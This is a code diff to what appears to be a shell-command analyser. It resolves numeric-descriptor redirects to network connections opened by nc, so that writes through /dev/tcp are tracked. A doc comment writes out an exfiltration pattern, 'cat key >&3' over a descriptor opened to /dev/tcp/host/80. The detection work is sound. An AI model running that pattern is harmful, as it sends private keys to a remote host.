@@ -27,12 +27,17 @@ export function planRedirects(redirects: readonly Redirection[], scope: Scope, r
       const opened = openedBy(redirect.operator, target, scope);
       if (opened && isStandardInput(redirect.descriptor)) input = opened;
       else if (opened && redirect.descriptor) keepOpen(redirect.descriptor, opened, scope);
-      else if (!/^[0-9-]+$/.test(target.text)) {
-        writes.push({ path: target.text, how: redirect.operator.endsWith('>>') ? 'append' : 'empty' });
-      }
+      else if (/^[0-9-]+$/.test(target.text)) writes.push(...connectionAt(target.text, scope));
+      else writes.push({ path: target.text, how: redirect.operator.endsWith('>>') ? 'append' : 'empty' });
     }
   }
   return { input, writes, from };
+}
+
+/** `cat key >&3` behind `exec 3<>/dev/tcp/host/80` */
+function connectionAt(descriptor: string, scope: Scope): Write[] {
+  const [connection] = scope.getFile(pathOfDescriptor(descriptor))?.from ?? [];
+  return connection?.name === 'nc' ? [{ path: `/dev/tcp/${connection.args.join('/')}`, how: 'append' }] : [];
 }
 
 /** What is read from it; undefined where it is written to. */
